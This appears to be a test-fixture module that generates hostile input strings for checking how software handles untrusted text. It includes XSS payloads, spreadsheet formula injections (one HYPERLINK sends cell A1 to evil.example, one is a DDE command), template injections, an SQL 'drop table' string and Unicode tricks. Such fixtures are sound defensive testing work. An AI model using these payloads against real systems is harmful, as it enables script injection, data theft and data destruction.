/** Whatever of it runs leaves this behind. */
export const trip = '__pwned'
const run = `window.${trip}=1`

/** What office programs would reckon instead of showing. */
const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1+9)', '\t=1+1', '=1+1']

const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><img src=https://evil.example/x onerror=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script xlink:href="data:,${run}"></script></svg>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<details open ontoggle=${run}>`,
  `<iframe srcdoc="<script>parent.${trip}=1</script>"></iframe>`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button autofocus onfocus=${run}>`,
  `<style>@import'https://evil.example/x.css'</style>`,
  `<base href=https://evil.example/><meta http-equiv=refresh content=0;url=javascript:${run}>`,
  `' onmouseover='${run}`,
  `javascript:${run}`,
  `[x](javascript:${run})`,
  `data:text/html,<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
]

const others = [
  `{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %> [[${run}]]`,
  "%{x} %{smart_count} %{name} %{_} |||| $& $1 $` $' %s %d",
  `'; drop table reviews; -- " \\ \\u0000 \\x00`,
  'a,"b";c\r\nd\te',
  '\u202Egnp.exe\u202C \u2066left\u2069 \u200F',
  '\u200B\u200C\u200D\u2060\uFEFF\u00AD',
  '\u0001\u0007\u000B\u001B[31mred\u001F\u007F\u0085\uFFFE\uFFFF _x0041_',
  `${'W'.repeat(1500)}`,
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳ 👩‍👩‍👧‍👦 🏳️‍🌈',
]

const whole = [...markup, ...others].join('\n')
let made = 0

/** A text with all of it; each next one begins with another formula. */
export const text = () => `${formulas[made++ % formulas.length]} ${trip}\n${whole}`

const short = [...formulas, ...markup, ...others]

/** One of it, as long as a name may be: each next name another, and no two the same. */
export function name(longest = 200) {
  const number = made++
  const fitting = short.filter(one => one.length < longest - 20)
  return `${fitting[number % fitting.length]} ${trip}${number}`
}
